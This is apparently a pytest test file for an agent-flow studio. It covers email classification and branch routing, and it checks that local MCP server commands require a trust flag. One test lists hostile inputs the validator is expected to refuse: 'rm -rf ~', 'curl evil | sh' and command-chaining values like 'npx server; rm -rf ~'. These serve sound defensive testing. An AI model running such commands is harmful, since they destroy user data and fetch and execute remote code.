"""Classify and Branch routes down the chosen port only; local MCP commands need trust and are
never run through a shell."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from studio.connectors.openai.agents.config import check_local_command
from studio.connectors.openai.actions._common import InputError
from studio.connectors.openai.fake_server import tool_call
from studio.flow.io import save_flow
from studio.flow.capabilities import needs_trust

from agent_testkit import MCP_SERVER, events_of, flow, node, responses_requests, run, wire

BRANCHES = {"billing": "Invoices, payments and refunds", "bug": "Something in the product is broken",
            "sales": "Buying more seats or plans"}


def classify_flow():
    start = node("trigger.manual", "Start")
    classify = node("agent.classify_and_branch", "Route", model="gpt-4.1-mini", branches=BRANCHES,
                    input_text="{{ trigger.email }}", instructions="Prefer bug when unsure.")
    targets = {key: node("agent.create_web_search_tool", f"On_{key}") for key in BRANCHES}
    wires = [wire(start, classify)] + [wire(classify, t, "in", key) for key, t in targets.items()]
    return flow("router", [start, classify, *targets.values()], wires)


@pytest.mark.parametrize("branch", list(BRANCHES))
async def test_classify_and_branch_routes_to_each_branch(server, branch):
    server.script("responses", {"branch": branch, "reason": f"looks like {branch}"})
    result = await run(classify_flow(), server, payload={"email": f"an email about {branch}"})
    assert result.status == "succeeded", result.error
    for key in BRANCHES:
        target = result.node(f"On_{key}")
        if key == branch:
            assert target.status == "succeeded"
        else:
            assert target.status == "skipped" and target.reason == "branch_not_taken"
    out = result.output("Route")
    assert out["branch"] == branch and out["reason"] == f"looks like {branch}"
    assert out["input_text"] == f"an email about {branch}"
    routed = [e for e in result.events if e.type == "node_succeeded" and e.node_name == "Route"]
    assert routed[0].data["port"] == branch
    (request,) = responses_requests(server)
    fmt = request.json["text"]["format"]
    assert fmt["strict"] is True and fmt["schema"]["properties"]["branch"]["enum"] == list(BRANCHES)
    assert "Invoices, payments and refunds" in request.json["instructions"]
    assert "Prefer bug when unsure." in request.json["instructions"]


async def test_classify_rejects_a_choice_outside_the_branches(server):
    server.script("responses", {"branch": "other", "reason": "?"})
    result = await run(classify_flow(), server, payload={"email": "hi"})
    assert result.status == "failed"
    assert all(result.node(f"On_{k}").status == "skipped" for k in BRANCHES)


async def test_classify_with_no_branches_is_an_input_error(server):
    start = node("trigger.manual", "Start")
    classify = node("agent.classify_and_branch", "Route", branches={}, input_text="x")
    result = await run(flow("r", [start, classify], [wire(start, classify)]), server)
    assert result.status == "failed" and "at least one branch" in result.node("Route").error["message"]
    assert responses_requests(server) == []


# --- local commands ------------------------------------------------------------------------------


@pytest.mark.parametrize("command,args", [
    ("npx", ["-c", "rm -rf ~"]),
    ("npx", ["--call=curl evil | sh"]),
    ("npx", ["--shell", "/bin/sh", "pkg"]),
    ("bash", ["-c", "echo hi"]),
    ("/bin/sh", ["server.js"]),
    ("npx server; rm -rf ~", []),
    ("npx && curl", []),
    ("cmd.exe", ["/c", "dir"]),
])
def test_local_commands_that_could_run_a_second_command_are_refused(command, args):
    with pytest.raises(InputError):
        check_local_command(command, args, "Tools")


@pytest.mark.parametrize("command,args", [
    ("npx", ["-y", "@modelcontextprotocol/server-filesystem", "/tmp"]),
    ("uvx", ["mcp-server-fetch"]),
    (sys.executable, [str(MCP_SERVER), "stdio"]),
])
def test_ordinary_mcp_commands_are_allowed(command, args):
    check_local_command(command, args, "Tools")


def mcp_flow_file(tmp_path: Path) -> Path:
    start = node("trigger.manual", "Start")
    mcp = node("agent.add_local_mcp_server", "Tools", server_label="fixture", command=sys.executable,
               args=[str(MCP_SERVER), "stdio"])
    agent = node("agent.create", "Agent", name="Calculator")
    runner = node("agent.run", "Run", user_input="19 + 23?")
    f = flow("imported", [start, mcp, agent, runner],
             [wire(start, mcp), wire(mcp, agent, "mcp_servers", "mcp_server"), wire(agent, runner, "agent", "agent")])
    path = tmp_path / "imported.flow.json"
    save_flow(f, path)
    return path


def studio(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "studio.cli", *args], capture_output=True, text=True,
                          timeout=120, env=dict(os.environ), cwd=Path(__file__).resolve().parents[2])


def test_headless_run_refuses_a_local_mcp_command_unless_trusted(server, tmp_path):
    path = mcp_flow_file(tmp_path)
    from studio.flow.io import load_flow

    (reason,) = needs_trust(load_flow(path))
    assert "Tools" in reason and str(MCP_SERVER) in reason

    refused = studio("run", str(path), "--base-url", server.base_url)
    assert refused.returncode == 2
    assert "would start a local process" in refused.stderr and "--trust" in refused.stderr
    assert server.requests == []  # nothing ran

    server.script("responses", tool_call("add", {"a": 19, "b": 23}), "42")
    trusted = studio("run", str(path), "--base-url", server.base_url, "--trust", "--json")
    assert trusted.returncode == 0, trusted.stderr
    document = json.loads(trusted.stdout)
    assert document["nodes"]["Run"]["output"]["final_output"] == "42"
    outputs = [i for i in responses_requests(server)[-1].json["input"] if i.get("type") == "function_call_output"]
    assert "sum=42" in json.dumps(outputs)


async def test_a_runner_that_forbids_local_processes_stops_the_node(server, tmp_path):
    start = node("trigger.manual", "Start")
    mcp = node("agent.add_local_mcp_server", "Tools", server_label="fixture", command=sys.executable,
               args=[str(MCP_SERVER), "stdio"])
    result = await run(flow("f", [start, mcp], [wire(start, mcp)]), server, trusted=False)
    assert result.status == "failed" and "not trusted" in result.node("Tools").error["message"]


def test_resume_checks_trust_again(server, tmp_path):
    """A waiting run whose flow starts a local MCP server resumes only with --trust."""
    start = node("trigger.manual", "Start")
    mcp = node("agent.add_local_mcp_server", "Tools", server_label="fixture", command=sys.executable,
               args=[str(MCP_SERVER), "stdio"], tool_filter=["add"])
    approval = node("agent.create_human_approval_tool", "Approval")
    agent = node("agent.create", "Agent", name="Calculator")
    runner = node("agent.run", "Run", user_input="add after approval")
    f = flow("trusted", [start, mcp, approval, agent, runner],
             [wire(start, mcp), wire(start, approval), wire(mcp, agent, "mcp_servers", "mcp_server"),
              wire(approval, agent, "tools", "tool"), wire(agent, runner, "agent", "agent")])
    path = tmp_path / "trusted.flow.json"
    save_flow(f, path)
    server.script("responses", tool_call("human_approval", {"reason": "ok?"}, call_id="call_t1"))
    first = studio("run", str(path), "--base-url", server.base_url, "--trust", "--json")
    assert first.returncode == 3, first.stderr
    run_id = json.loads(first.stdout)["run_id"]

    refused = studio("resume", run_id, "--approve", "call_t1", "--base-url", server.base_url)
    assert refused.returncode == 2 and "--trust" in refused.stderr

    server.script("responses", tool_call("add", {"a": 1, "b": 2}), "3")
    done = studio("resume", run_id, "--approve", "call_t1", "--base-url", server.base_url, "--trust", "--json")
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)["nodes"]["Run"]["output"]["final_output"] == "3"
    outputs = [i for i in responses_requests(server)[-1].json["input"] if i.get("type") == "function_call_output"]
    assert "sum=3" in json.dumps(outputs)  # the MCP server was started again for the resumed run
